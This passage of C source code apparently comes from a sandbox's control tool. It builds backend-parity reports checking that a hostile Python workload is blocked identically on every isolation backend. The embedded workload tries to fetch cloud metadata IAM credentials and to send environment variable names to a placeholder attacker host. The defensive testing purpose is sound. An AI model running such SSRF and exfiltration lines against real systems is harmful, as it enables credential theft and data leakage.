#include <config.h>

#include <sys/stat.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "common/clock.h"
#include "common/err.h"
#include "ctl/api.h"
#include "ctl/ctl.h"
#include "ctl/demo.h"

/* A waiting POST: the daemon's default 30 s limit, a microVM's boot, slack. */
#define PARITY_RUN_TIMEOUT_MS	90000
#define PARITY_CALL_TIMEOUT_MS	30000
#define PARITY_LAB_UP_MS	300000
#define PARITY_LAB_DOWN_MS	120000
#define PARITY_LAB_READY_MS	20000	/* sessiond answering after `up` */
#define PARITY_DELETE_TIMEOUT_MS	10000
#define PARITY_POLL_MS		250
#define PARITY_REPORT		"backend-parity-report"

const char parity_workload[] =
    "import enclave\n"
    "import os, json, urllib.request\n"
    "\n"
    "# 1. SSRF the cloud metadata IP for IAM credentials (the classic heist).\n"
    "try:\n"
    "    urllib.request.urlopen(\"http://" PARITY_METADATA_IP
    "/latest/meta-data/iam/security-credentials/\")\n"
    "except Exception as e:\n"
    "    print(\"metadata fetch blocked:\", e)\n"
    "\n"
    "# 2. Exfiltrate anything we can find to an attacker-controlled host.\n"
    "try:\n"
    "    urllib.request.urlopen(\"http://" PARITY_ATTACKER_HOST
    "/exfil?dump=\" + \",\".join(os.environ.keys()))\n"
    "except Exception as e:\n"
    "    print(\"exfil blocked:\", e)\n"
    "\n"
    "enclave.result({\"egressAttempted\": True})";

const char *const parity_audit_types[] = {
	"session_created", "sandbox_started", "egress_denied", "egress_denied",
	"result_collected", "workload_exited", "usage_metered", NULL
};

static int
jwt_char(unsigned char c)
{
	return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') ||
	    (c >= '0' && c <= '9') || c == '_' || c == '-';
}

/* The seed's /eyJ[A-Za-z0-9_-]{8,}/, without a regex engine. */
int
parity_jwt_found(const char *s, size_t len)
{
	size_t i, j;

	for (i = 0; i + 3 <= len; i++) {
		if (s[i] != 'e' || s[i + 1] != 'y' || s[i + 2] != 'J')
			continue;
		for (j = i + 3; j < len && j - (i + 3) < 8 &&
		    jwt_char((unsigned char)s[j]); j++)
			;
		if (j - (i + 3) == 8)
			return 1;
	}
	return 0;
}

/* ---- targets ---- */

static char *
trim(char *s)
{
	char *e;

	while (*s == ' ' || *s == '\t')
		s++;
	e = s + strlen(s);
	while (e > s && (e[-1] == ' ' || e[-1] == '\t'))
		*--e = '\0';
	return s;
}

static struct parity_target *
target_find(struct parity_target *t, size_t n, const char *label)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (strcmp(t[i].label, label) == 0)
			return &t[i];
	return NULL;
}

/* user:password@ in a URL would end up in the report and on the screen. */
static int
url_has_credentials(const char *url)
{
	const char *a, *slash;

	if (strncasecmp(url, "http://", 7) != 0)
		return 0;
	a = url + 7;
	slash = strchr(a, '/');
	return memchr(a, '@', slash ? (size_t)(slash - a) : strlen(a)) != NULL;
}

int
parity_target_add(struct parity_target *t, size_t max, size_t *n,
    const char *label, const char *url, const char *api_key,
    const char *backend)
{
	struct parity_target *x;

	if (*n >= max)
		return -1;
	x = &t[*n];
	memset(x, 0, sizeof(*x));
	if ((x->label = strdup(label)) == NULL || (x->url = strdup(url)) == NULL ||
	    (api_key != NULL && (x->api_key = strdup(api_key)) == NULL) ||
	    (backend != NULL && (x->backend = strdup(backend)) == NULL)) {
		parity_targets_free(x, 1);
		return -1;
	}
	/* Both get printed; neither may steer the terminal. */
	apic_sanitize(x->label);
	apic_sanitize(x->url);
	(*n)++;
	return 0;
}

void
parity_targets_free(struct parity_target *t, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++) {
		free(t[i].label);
		free(t[i].url);
		if (t[i].api_key != NULL)
			explicit_bzero(t[i].api_key, strlen(t[i].api_key));
		free(t[i].api_key);
		free(t[i].backend);
		memset(&t[i], 0, sizeof(t[i]));
	}
}

int
parity_targets_parse(const char *urls, const char *keys,
    struct parity_target *t, size_t max, size_t *n, char *err, size_t errlen)
{
	char *copy = NULL, *item, *save = NULL, *eq, *label, *val;
	struct parity_target *x;
	size_t clen = strlen(urls);
	int rc = -1;

	if ((copy = strdup(urls)) == NULL)
		return err_set(err, errlen, "out of memory");
	for (item = strtok_r(copy, ",", &save); item != NULL;
	    item = strtok_r(NULL, ",", &save)) {
		if (*(item = trim(item)) == '\0')
			continue;
		if ((eq = strchr(item, '=')) == NULL) {
			err_set(err, errlen, "ENCLAVE_PARITY_BASE_URLS: \"%s\" is not "
			    "label=url", item);
			goto out;
		}
		*eq = '\0';
		label = trim(item);
		val = trim(eq + 1);
		if (*label == '\0' || *val == '\0') {
			err_set(err, errlen, "ENCLAVE_PARITY_BASE_URLS: an item has an "
			    "empty label or url");
			goto out;
		}
		if (target_find(t, *n, label) != NULL) {
			err_set(err, errlen, "ENCLAVE_PARITY_BASE_URLS: label \"%s\" "
			    "given twice", label);
			goto out;
		}
		if (url_has_credentials(val)) {
			err_set(err, errlen, "ENCLAVE_PARITY_BASE_URLS: %s: credentials "
			    "in a URL are not supported; use ENCLAVE_PARITY_API_KEYS",
			    label);
			goto out;
		}
		if (parity_target_add(t, max, n, label, val, NULL, NULL) == -1) {
			err_set(err, errlen, "ENCLAVE_PARITY_BASE_URLS: more than %zu "
			    "targets", max);
			goto out;
		}
	}
	if (*n == 0) {
		err_set(err, errlen, "ENCLAVE_PARITY_BASE_URLS names no target");
		goto out;
	}
	free(copy);
	copy = NULL;
	if (keys != NULL) {
		clen = strlen(keys);
		if ((copy = strdup(keys)) == NULL) {
			err_set(err, errlen, "out of memory");
			goto out;
		}
		/* Messages here name labels only: the items hold the keys. */
		for (item = strtok_r(copy, ",", &save); item != NULL;
		    item = strtok_r(NULL, ",", &save)) {
			if (*(item = trim(item)) == '\0')
				continue;
			if ((eq = strchr(item, '=')) == NULL) {
				err_set(err, errlen, "ENCLAVE_PARITY_API_KEYS: an item "
				    "is not label=key");
				goto out;
			}
			*eq = '\0';
			label = trim(item);
			val = trim(eq + 1);
			if ((x = target_find(t, *n, label)) == NULL) {
				err_set(err, errlen, "ENCLAVE_PARITY_API_KEYS: no target "
				    "labelled \"%s\"", label);
				goto out;
			}
			if (*val == '\0')
				continue;
			free(x->api_key);
			if ((x->api_key = strdup(val)) == NULL) {
				err_set(err, errlen, "out of memory");
				goto out;
			}
		}
	}
	rc = 0;
out:
	if (copy != NULL) {
		explicit_bzero(copy, clen);	/* it may hold keys */
		free(copy);
	}
	return rc;
}

/* ---- verdicts ---- */

json_t *
parity_request(const char *backend)
{
	json_t *body = json_object();

	if (body == NULL)
		return NULL;
	if (json_object_set_new(body, "language", json_string("python")) == -1 ||
	    json_object_set_new(body, "code", json_string(parity_workload)) == -1 ||
	    (backend != NULL &&
	    json_object_set_new(body, "backend", json_string(backend)) == -1) ||
	    json_object_set_new(body, "egress",
	    json_pack("{s:[s]}", "allow", "allowed.test")) == -1 ||
	    json_object_set_new(body, "wait", json_true()) == -1) {
		json_decref(body);
		return NULL;
	}
	return body;
}

static int
array_has(const json_t *arr, const char *s)
{
	const json_t *v;
	size_t i;

	json_array_foreach(arr, i, v)
		if (json_is_string(v) && strcmp(json_string_value(v), s) == 0)
			return 1;
	return 0;
}

static int
cmp_str(const void *a, const void *b)
{
	return strcmp(*(const char *const *)a, *(const char *const *)b);
}

/* A new array of arr's strings in byte order. */
static json_t *
sorted_strings(const json_t *arr)
{
	size_t n = json_array_size(arr), i;
	const char **v;
	json_t *out = json_array();

	if (out == NULL || (v = calloc(n + 1, sizeof(*v))) == NULL) {
		json_decref(out);
		return NULL;
	}
	for (i = 0; i < n; i++)
		v[i] = json_string_value(json_array_get(arr, i));
	qsort(v, n, sizeof(*v), cmp_str);
	for (i = 0; i < n; i++)
		if (json_array_append_new(out, json_string(v[i])) == -1) {
			json_decref(out);
			out = NULL;
			break;
		}
	free(v);
	return out;
}

json_t *
parity_record(const char *label, const char *base_url, long long start_ms,
    const json_t *session, const json_t *audit)
{
	const json_t *events, *ev, *result;
	json_t *types = json_array(), *hosts = json_array(), *sorted = NULL;
	json_t *scan = NULL, *verdict = NULL, *rec = NULL;
	const char *type, *host, *phase;
	char *text = NULL;
	int leaked;
	size_t i;

	if (types == NULL || hosts == NULL)
		goto out;
	events = json_is_array(audit) ? audit : json_object_get(audit, "events");
	json_array_foreach(events, i, ev) {
		type = json_string_value(json_object_get(ev, "type"));
		if (json_array_append_new(types, json_string(type ? type : "?")) == -1)
			goto out;
		if (type == NULL || strcmp(type, "egress_denied") != 0)
			continue;
		host = json_string_value(json_object_get(json_object_get(ev, "data"),
		    "host"));
		if (host != NULL && !array_has(hosts, host) &&
		    json_array_append_new(hosts, json_string(host)) == -1)
			goto out;
	}
	if ((sorted = sorted_strings(hosts)) == NULL)
		goto out;
	/* The seed's public surfaces: the session, its audit answer, its result. */
	result = json_object_get(session, "result");
	scan = json_pack("{s:O, s:O, s:O}", "session", session,
	    "audit", audit != NULL ? audit : json_null(),
	    "result", result != NULL ? result : json_null());
	if (scan == NULL || (text = json_dumps(scan, JSON_COMPACT |
	    JSON_PRESERVE_ORDER)) == NULL)
		goto out;
	leaked = parity_jwt_found(text, strlen(text));
	phase = json_string_value(json_object_get(session, "phase"));
	verdict = json_pack("{s:b, s:O, s:b, s:s}",
	    "egressDenied", array_has(sorted, PARITY_METADATA_IP) &&
	    array_has(sorted, PARITY_ATTACKER_HOST),
	    "deniedHosts", sorted,
	    "tokenWithheld", !leaked,
	    "phase", phase != NULL ? phase : "unknown");
	if (verdict == NULL)
		goto out;
	rec = json_pack("{s:s, s:s, s:I, s:O, s:O}", "label", label,
	    "baseUrl", base_url, "startMs", (json_int_t)start_ms,
	    "verdict", verdict, "auditTypes", types);
out:
	free(text);
	json_decref(scan);
	json_decref(verdict);
	json_decref(sorted);
	json_decref(hosts);
	json_decref(types);
	return rec;
}

json_t *
parity_record_failed(const char *label, const char *base_url,
    long long start_ms, const char *error)
{
	return json_pack("{s:s, s:s, s:I, s:{s:b, s:[], s:b, s:s}, s:[], s:s}",
	    "label", label, "baseUrl", base_url, "startMs", (json_int_t)start_ms,
	    "verdict", "egressDenied", 0, "deniedHosts", "tokenWithheld", 0,
	    "phase", "unknown", "auditTypes", "error", error);
}

static void
fail_add(json_t *failures, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

static void
fail_add(json_t *failures, const char *fmt, ...)
{
	char buf[2048];
	va_list ap;

	va_start(ap, fmt);
	(void)vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	apic_sanitize(buf);
	(void)json_array_append_new(failures, json_string(buf));
}

static int
types_expected(const json_t *types)
{
	size_t i;

	for (i = 0; parity_audit_types[i] != NULL; i++) {
		if (!json_is_string(json_array_get(types, i)) ||
		    strcmp(json_string_value(json_array_get(types, i)),
		    parity_audit_types[i]) != 0)
			return 0;
	}
	return json_array_size(types) == i;
}

/* "a, b, c" of a string array, or "none"; free(). */
static char *
join(const json_t *arr, const char *sep)
{
	size_t i, len = 1;
	const json_t *v;
	char *s;

	json_array_foreach(arr, i, v)
		len += strlen(json_string_value(v) ?: "?") + strlen(sep);
	if ((s = calloc(1, len + 5)) == NULL)
		return NULL;
	json_array_foreach(arr, i, v) {
		if (i > 0)
			strcat(s, sep);
		strcat(s, json_string_value(v) ?: "?");
	}
	if (json_array_size(arr) == 0)
		strcpy(s, "none");
	return s;
}

/* Everything a verdict is compared on, as one string. */
static char *
verdict_shape(const json_t *rec)
{
	const json_t *v = json_object_get(rec, "verdict");
	json_t *shape;
	char *s;

	shape = json_pack("{s:O, s:O, s:O, s:O, s:O}",
	    "egressDenied", json_object_get(v, "egressDenied") ?: json_null(),
	    "deniedHosts", json_object_get(v, "deniedHosts") ?: json_null(),
	    "tokenWithheld", json_object_get(v, "tokenWithheld") ?: json_null(),
	    "phase", json_object_get(v, "phase") ?: json_null(),
	    "auditTypes", json_object_get(rec, "auditTypes") ?: json_null());
	if (shape == NULL)
		return NULL;
	s = json_dumps(shape, JSON_COMPACT | JSON_PRESERVE_ORDER);
	json_decref(shape);
	return s;
}

static void
check_record(const json_t *rec, json_t *failures)
{
	const char *label = json_string_value(json_object_get(rec, "label")) ?: "?";
	const char *error = json_string_value(json_object_get(rec, "error"));
	const json_t *v = json_object_get(rec, "verdict");
	const json_t *types = json_object_get(rec, "auditTypes");
	const char *phase = json_string_value(json_object_get(v, "phase")) ?: "?";
	json_t *want;
	char *got, *exp;
	size_t i;

	if (error != NULL) {
		fail_add(failures, "%s: the run failed: %s", label, error);
		return;
	}
	if (!json_is_true(json_object_get(v, "egressDenied"))) {
		got = join(json_object_get(v, "deniedHosts"), ", ");
		fail_add(failures, "%s: egress not fully denied (denied: %s; "
		    "expected %s and %s)", label, got ? got : "?",
		    PARITY_METADATA_IP, PARITY_ATTACKER_HOST);
		free(got);
	}
	if (!json_is_true(json_object_get(v, "tokenWithheld")))
		fail_add(failures, "%s: SECRET LEAKED: a JWT (eyJ...) is in the "
		    "session, its audit events or its result", label);
	if (strcmp(phase, "succeeded") != 0)
		fail_add(failures, "%s: phase %s, expected succeeded", label, phase);
	if (!types_expected(types)) {
		if ((want = json_array()) != NULL)
			for (i = 0; parity_audit_types[i] != NULL; i++)
				json_array_append_new(want, json_string(parity_audit_types[i]));
		got = join(types, ", ");
		exp = join(want, ", ");
		fail_add(failures, "%s: audit event types [%s], expected [%s]", label,
		    got ? got : "?", exp ? exp : "?");
		free(got);
		free(exp);
		json_decref(want);
	}
}

json_t *
parity_report(const char *mode, json_t *records, json_t *failures)
{
	json_t *shapes = json_object(), *rec, *report = NULL;
	size_t i, n = json_array_size(records), distinct;
	char *shape;
	int parity;

	if (shapes == NULL)
		return NULL;
	json_array_foreach(records, i, rec) {
		check_record(rec, failures);
		if ((shape = verdict_shape(rec)) == NULL)
			goto out;
		json_object_set_new(shapes, shape, json_true());
		free(shape);
	}
	distinct = json_object_size(shapes);
	parity = n > 0 && distinct == 1;
	if (n == 0)
		fail_add(failures, "no backend ran");
	else if (!parity)
		fail_add(failures, "backends disagreed — %zu distinct verdict shapes "
		    "across %zu backends", distinct, n);
	report = json_pack("{s:{s:s, s:b, s:I, s:I, s:b, s:I}, s:O}",
	    "summary", "mode", mode, "passed", json_array_size(failures) == 0,
	    "failures", (json_int_t)json_array_size(failures),
	    "backendCount", (json_int_t)n, "parity", parity,
	    "distinctVerdictShapes", (json_int_t)distinct,
	    "backends", records);
out:
	json_decref(shapes);
	return report;
}

/* ---- rendering ---- */

struct palette {
	const char *bold, *dim, *red, *green, *cyan, *reset;
};

static const struct palette pal_plain = { "", "", "", "", "", "" };
static const struct palette pal_ansi = {
	"\033[1m", "\033[2m", "\033[31m", "\033[32m", "\033[36m", "\033[0m"
};

/* Text that came over the wire, with control bytes shown as '?'. */
static void
put_clean(FILE *f, const char *s)
{
	char *c;

	if (s == NULL || (c = strdup(s)) == NULL) {
		fputs("?", f);
		return;
	}
	apic_sanitize(c);
	fputs(c, f);
	free(c);
}

static void
put_list(FILE *f, const json_t *arr, const char *sep)
{
	char *s = join(arr, sep);

	put_clean(f, s);
	free(s);
}

void
parity_print_header(FILE *out, const char *mode, const json_t *labels,
    int colour)
{
	const struct palette *c = colour ? &pal_ansi : &pal_plain;

	fprintf(out, "%s▣ Enclave — Same workload. Three kernels. One verdict.%s\n",
	    c->bold, c->reset);
	fprintf(out, "%sbackend parity (invariant 2): identical egress + "
	    "secret-withholding verdict across isolation tech%s\n", c->dim, c->reset);
	fprintf(out, "mode: %s  ·  backends: ", mode);
	put_list(out, labels, ", ");
	fprintf(out, "\n\n");
}

void
parity_print_tile(FILE *out, const json_t *rec, int colour)
{
	static const char bar[] = "──────────────────────────────────────────────";
	const struct palette *c = colour ? &pal_ansi : &pal_plain;
	const json_t *v = json_object_get(rec, "verdict");
	const char *error = json_string_value(json_object_get(rec, "error"));
	const json_t *lat;

	fprintf(out, "%s%s┌%s┐%s\n", c->bold, c->cyan, bar, c->reset);
	fprintf(out, "%s%s│%s %sbackend: ", c->bold, c->cyan, c->reset, c->bold);
	put_clean(out, json_string_value(json_object_get(rec, "label")));
	fprintf(out, "%s\n%s%s│%s %s", c->reset, c->bold, c->cyan, c->reset, c->dim);
	put_clean(out, json_string_value(json_object_get(rec, "baseUrl")));
	fprintf(out, "%s\n%s%s├%s┤%s\n", c->reset, c->bold, c->cyan, bar, c->reset);
	if (error != NULL) {
		fprintf(out, "%s%s│%s %s✗ run failed%s  %s", c->bold, c->cyan, c->reset,
		    c->red, c->reset, c->dim);
		put_clean(out, error);
		fprintf(out, "%s\n", c->reset);
	} else {
		fprintf(out, "%s%s│%s ", c->bold, c->cyan, c->reset);
		if (json_is_true(json_object_get(v, "egressDenied"))) {
			fprintf(out, "%s✓ egress_denied%s  %s%s, %s%s\n", c->green,
			    c->reset, c->dim, PARITY_METADATA_IP, PARITY_ATTACKER_HOST,
			    c->reset);
		} else {
			fprintf(out, "%s✗ egress NOT fully denied%s  %s[", c->red,
			    c->reset, c->dim);
			put_list(out, json_object_get(v, "deniedHosts"), ", ");
			fprintf(out, "]%s\n", c->reset);
		}
		fprintf(out, "%s%s│%s ", c->bold, c->cyan, c->reset);
		if (json_is_true(json_object_get(v, "tokenWithheld")))
			fprintf(out, "%s✓ no secret leaked%s  %sno eyJ JWT in any public "
			    "surface%s\n", c->green, c->reset, c->dim, c->reset);
		else
			fprintf(out, "%s✗ SECRET LEAKED%s\n", c->red, c->reset);
		lat = json_object_get(rec, "startLatencyMs");
		if (lat != NULL)
			fprintf(out, "%s%s│%s %sstart  %lld ms (median of %zu "
			    "trivial sessions, created → workload running)%s\n",
			    c->bold, c->cyan, c->reset, c->dim,
			    (long long)json_integer_value(json_object_get(lat,
			    "median")), json_array_size(json_object_get(lat,
			    "runs")), c->reset);
	}
	fprintf(out, "%s%s└%s┘%s\n\n", c->bold, c->cyan, bar, c->reset);
	fflush(out);
}

void
parity_print_verdict(FILE *out, const json_t *report, const json_t *failures,
    int colour)
{
	const struct palette *c = colour ? &pal_ansi : &pal_plain;
	const json_t *sum = json_object_get(report, "summary");
	const json_t *recs = json_object_get(report, "backends");
	const json_t *v = json_object_get(json_array_get(recs, 0), "verdict");
	json_int_t n = json_integer_value(json_object_get(sum, "backendCount"));
	const json_t *f;
	size_t i;

	json_array_foreach(failures, i, f)
		fprintf(out, "%s✗ %s%s\n", c->red, json_string_value(f), c->reset);
	if (json_array_size(failures) > 0)
		fprintf(out, "\n");
	fprintf(out, "%s%s═══ verdict parity ═══%s\n", c->bold, c->cyan, c->reset);
	if (json_is_true(json_object_get(sum, "parity"))) {
		fprintf(out, "%s%s✓ all %lld backend(s) produced ONE identical "
		    "verdict:%s\n", c->bold, c->green, (long long)n, c->reset);
		/* The shared verdict as it is, safe or not. */
		fprintf(out, "  ");
		if (json_is_true(json_object_get(v, "egressDenied")))
			fprintf(out, "%segress_denied%s [", c->green, c->reset);
		else
			fprintf(out, "%segress NOT fully denied%s [", c->red, c->reset);
		put_list(out, json_object_get(v, "deniedHosts"), ", ");
		fprintf(out, "]  ·  ");
		if (json_is_true(json_object_get(v, "tokenWithheld")))
			fprintf(out, "%sno secret leaked%s\n", c->green, c->reset);
		else
			fprintf(out, "%sSECRET LEAKED%s\n", c->red, c->reset);
		fprintf(out, "  %ssame orchestrator/audit/egress contract — only the "
		    "kernel differs.%s\n", c->dim, c->reset);
	} else if (n == 0) {
		fprintf(out, "%s%s✗ no backend ran.%s\n", c->bold, c->red, c->reset);
	} else {
		fprintf(out, "%s%s✗ verdicts were not identical across backends.%s\n",
		    c->bold, c->red, c->reset);
	}
	fprintf(out, "\n");
	if (json_is_true(json_object_get(sum, "passed")))
		fprintf(out, "%s%s✓ backend parity proven across %lld backend(s) — "
		    "same hostile workload, same verdict.%s\n\n", c->bold, c->green,
		    (long long)n, c->reset);
	else
		fprintf(out, "%s%s✗ backend parity NOT proven: %zu failure(s) across "
		    "%lld backend(s).%s\n\n", c->bold, c->red,
		    json_array_size(failures), (long long)n, c->reset);
	fflush(out);
}

/* A table cell or list item: Markdown's active bytes escaped. */
static void
md_put(FILE *f, const char *s)
{
	const unsigned char *u = (const unsigned char *)(s ? s : "?");

	for (; *u != '\0'; u++) {
		if (*u < 0x20 || *u == 0x7f)
			fputc('?', f);
		else if (strchr("\\`*_[]<>|#", *u) != NULL)
			fprintf(f, "\\%c", *u);
		else
			fputc(*u, f);
	}
}

static void
md_list(FILE *f, const json_t *arr, const char *sep)
{
	const json_t *v;
	size_t i;

	if (json_array_size(arr) == 0)
		fputs("none", f);
	json_array_foreach(arr, i, v) {
		if (i > 0)
			fputs(sep, f);
		md_put(f, json_string_value(v));
	}
}

static const char *
yes_no(const json_t *v)
{
	return json_is_true(v) ? "yes" : "no";
}

char *
parity_markdown(const json_t *report, const json_t *failures)
{
	const json_t *sum = json_object_get(report, "summary");
	const json_t *recs = json_object_get(report, "backends"), *rec, *v, *f;
	char *buf = NULL;
	size_t len = 0, i;
	FILE *m;

	if ((m = open_memstream(&buf, &len)) == NULL)
		return NULL;
	fprintf(m, "# Backend parity report\n\n");
	fprintf(m, "Same hostile workload (SSRF to `%s`, exfiltration to `%s`), "
	    "byte-identical on every backend; every verdict must deny both, leak "
	    "no secret, succeed, and be the same.\n\n", PARITY_METADATA_IP,
	    PARITY_ATTACKER_HOST);
	fprintf(m, "**%s**\n\n", json_is_true(json_object_get(sum, "passed")) ?
	    "PASSED" : "FAILED");
	fprintf(m, "| mode | passed | failures | backends | parity | distinct verdict shapes |\n");
	fprintf(m, "|---|---|---:|---:|---|---:|\n| ");
	md_put(m, json_string_value(json_object_get(sum, "mode")));
	fprintf(m, " | %s | %lld | %lld | %s | %lld |\n\n",
	    yes_no(json_object_get(sum, "passed")),
	    (long long)json_integer_value(json_object_get(sum, "failures")),
	    (long long)json_integer_value(json_object_get(sum, "backendCount")),
	    yes_no(json_object_get(sum, "parity")),
	    (long long)json_integer_value(json_object_get(sum, "distinctVerdictShapes")));
	fprintf(m, "## Backends\n\n");
	fprintf(m, "| label | base URL | run ms | start ms (median) | egress "
	    "denied | denied hosts | token withheld | phase |\n");
	fprintf(m, "|---|---|---:|---:|---|---|---|---|\n");
	json_array_foreach(recs, i, rec) {
		v = json_object_get(rec, "verdict");
		fprintf(m, "| ");
		md_put(m, json_string_value(json_object_get(rec, "label")));
		fprintf(m, " | ");
		md_put(m, json_string_value(json_object_get(rec, "baseUrl")));
		fprintf(m, " | %lld | ",
		    (long long)json_integer_value(json_object_get(rec, "startMs")));
		if (json_object_get(rec, "startLatencyMs") != NULL)
			fprintf(m, "%lld", (long long)json_integer_value(
			    json_object_get(json_object_get(rec,
			    "startLatencyMs"), "median")));
		else
			fprintf(m, "-");
		fprintf(m, " | %s | ", yes_no(json_object_get(v, "egressDenied")));
		md_list(m, json_object_get(v, "deniedHosts"), ", ");
		fprintf(m, " | %s | ", yes_no(json_object_get(v, "tokenWithheld")));
		md_put(m, json_string_value(json_object_get(v, "phase")));
		fprintf(m, " |\n");
	}
	fprintf(m, "\n## Audit event types\n\n");
	json_array_foreach(recs, i, rec) {
		fprintf(m, "- **");
		md_put(m, json_string_value(json_object_get(rec, "label")));
		fprintf(m, "**: ");
		md_list(m, json_object_get(rec, "auditTypes"), " → ");
		fprintf(m, "\n");
	}
	if (json_array_size(failures) > 0) {
		fprintf(m, "\n## Failures\n\n");
		json_array_foreach(failures, i, f) {
			fprintf(m, "- ");
			md_put(m, json_string_value(f));
			fprintf(m, "\n");
		}
	}
	if (fclose(m) != 0) {
		free(buf);
		return NULL;
	}
	return buf;
}

/* ---- the run ---- */

static volatile sig_atomic_t parity_stop;

static void
parity_on_signal(int sig)
{
	parity_stop = sig;
}

struct demo {
	const struct ctl_ctx *ctx;
	const char	*mode;
	struct parity_target t[PARITY_TARGETS_MAX];
	size_t		 n;
	char		 lab[64];	/* the lab to take down; "" if none */
	int		 lab_up;	/* `up` succeeded */
	json_t		*records;
	json_t		*failures;
	int		 colour;
};

static const char *
env_nonempty(const char *name)
{
	const char *v = getenv(name);

	return v != NULL && v[0] != '\0' ? v : NULL;
}

/*
 * The value of KEY in the lab script's output ("KEY=v", also as
 * `export KEY='v'`) into val; 1 found, 0 not (or too long).
 */
static int
lab_value(const char *out, const char *key, char *val, size_t vlen)
{
	size_t klen = strlen(key), n;
	const char *line, *nl, *v, *e;

	for (line = out; *line != '\0'; line = *nl ? nl + 1 : nl) {
		nl = line + strcspn(line, "\n");
		while (line < nl && (*line == ' ' || *line == '\t'))
			line++;
		if ((size_t)(nl - line) > 7 && strncmp(line, "export ", 7) == 0)
			line += 7;
		if ((size_t)(nl - line) <= klen || strncmp(line, key, klen) != 0 ||
		    line[klen] != '=')
			continue;
		v = line + klen + 1;
		e = nl;
		while (e > v && (e[-1] == '\r' || e[-1] == ' ' || e[-1] == '\t'))
			e--;
		if (e - v >= 2 && (*v == '\'' || *v == '"') && e[-1] == *v) {
			v++;
			e--;
		}
		if ((n = (size_t)(e - v)) == 0 || n >= vlen)
			return 0;
		memcpy(val, v, n);
		val[n] = '\0';
		return 1;
	}
	return 0;
}

static int
lab_backends(struct demo *d, const char *url)
{
	const struct ctl_ctx *ctx = d->ctx;
	uint64_t until = clock_monotonic_ms() + PARITY_LAB_READY_MS;
	json_t *reply = NULL, *list, *b;
	const char *names[PARITY_TARGETS_MAX], *name;
	char msg[1024], label[128];
	struct apic c;
	size_t i, nn = 0;
	int arc, rc = -1;

	if (apic_init(&c, url, NULL, "the lab's sessiond is not up",
	    msg, sizeof(msg)) == -1) {
		fprintf(ctx->err, "enclavectl: lab: %s\n", msg);
		return -1;
	}
	c.cancel = &parity_stop;
	/* `up` should return once sessiond answers; allow it a moment anyway. */
	while ((arc = apic_call(&c, "GET", "/v1/backends", NULL,
	    PARITY_CALL_TIMEOUT_MS, NULL, &reply, msg, sizeof(msg))) ==
	    APIC_ETRANSPORT && !parity_stop && clock_monotonic_ms() < until)
		(void)poll(NULL, 0, PARITY_POLL_MS);
	if (arc != APIC_OK) {
		fprintf(ctx->err, "enclavectl: lab: %s\n", msg);
		return -1;
	}
	list = json_is_array(reply) ? reply : json_object_get(reply, "backends");
	json_array_foreach(list, i, b) {
		name = json_string_value(json_object_get(b, "name"));
		if (name == NULL || !json_is_true(json_object_get(b, "available")))
			continue;
		if (nn < PARITY_TARGETS_MAX)
			names[nn++] = name;
	}
	if (nn == 0)
		fprintf(ctx->err, "enclavectl: lab: no backend is available "
		    "(enclavectl --socket ... backends says why)\n");
	for (i = 0; i < nn; i++)
		if (parity_target_add(d->t, PARITY_TARGETS_MAX, &d->n, names[i], url,
		    NULL, names[i]) == -1)
			goto out;
	/* One backend: run it twice, as the seed does, to prove the shape holds. */
	if (nn == 1) {
		snprintf(label, sizeof(label), "%s-2", names[0]);
		if (parity_target_add(d->t, PARITY_TARGETS_MAX, &d->n, label, url,
		    NULL, names[0]) == -1)
			goto out;
	}
	rc = 0;
out:
	if (rc == -1)
		fprintf(ctx->err, "enclavectl: out of memory\n");
	json_decref(reply);
	return rc;
}

/* Boots the lab; d->lab is set first, so it is taken down whatever happens. */
static int
lab_boot(struct demo *d)
{
	const struct ctl_ctx *ctx = d->ctx;
	struct ctl_lab_run r = {
		.err = ctx->err, .capture = 1, .timeout_ms = PARITY_LAB_UP_MS,
		.own_group = 1, .null_stdin = 1, .cancel = &parity_stop,
	};
	/* --docker: a private dockerd for the docker backend when dockerd is
	 * installed; the script carries on without one when it is not. */
	const char *args[] = { "up", "--name", d->lab, "--docker", NULL };
	char msg[1024], sock[512], name[64], url[600];
	int rc = -1;

	/* [a-z0-9], at most 10: the lab's interface names carry it. */
	snprintf(d->lab, sizeof(d->lab), "bp%06x",
	    (unsigned)(getpid() ^ (unsigned)time(NULL)) & 0xffffff);
	fprintf(ctx->err, "enclavectl: lab: booting appliance %s (%s up)\n",
	    d->lab, ctl_lab_script());
	if (ctl_lab_run(args, &r, msg, sizeof(msg)) == -1) {
		fprintf(ctx->err, "enclavectl: %s\n", msg);
		return -1;
	}
	if (r.status != 0) {
		fprintf(ctx->err, "enclavectl: lab: `up` failed (exit %d)\n", r.status);
		goto out;
	}
	d->lab_up = 1;
	/* The script may have chosen the name itself; `down` needs its choice. */
	if (lab_value(r.captured ? r.captured : "", "ENCLAVE_LAB", name, sizeof(name)))
		snprintf(d->lab, sizeof(d->lab), "%s", name);
	if (!lab_value(r.captured ? r.captured : "", "ENCLAVE_SOCKET", sock,
	    sizeof(sock))) {
		fprintf(ctx->err, "enclavectl: lab: `up` printed no ENCLAVE_SOCKET= "
		    "line\n");
		goto out;
	}
	snprintf(url, sizeof(url), "%s%s", sock[0] == '/' ? "unix:" : "", sock);
	rc = lab_backends(d, url);
out:
	free(r.captured);
	return rc;
}

/*
 * Always runs, also after a signal: a lab left up holds namespaces. When
 * `up` failed it has removed what it built and `down` may well find
 * nothing; then its complaint is not a finding of the demo.
 */
static void
lab_teardown(struct demo *d)
{
	const struct ctl_ctx *ctx = d->ctx;
	struct ctl_lab_run r = {
		.err = ctx->err, .timeout_ms = PARITY_LAB_DOWN_MS, .own_group = 1,
		.null_stdin = 1,
	};
	const char *args[] = { "down", d->lab, NULL };
	char msg[1024];

	fprintf(ctx->err, "enclavectl: lab: tearing down %s\n", d->lab);
	if (ctl_lab_run(args, &r, msg, sizeof(msg)) == -1)
		snprintf(msg + strlen(msg), sizeof(msg) - strlen(msg), "; ");
	else if (r.status != 0)
		snprintf(msg, sizeof(msg), "exit %d; ", r.status);
	else
		return;
	if (d->lab_up)
		fail_add(d->failures, "lab down %s failed: %snamespaces may be left "
		    "(enclavectl lab down %s)", d->lab, msg, d->lab);
	else
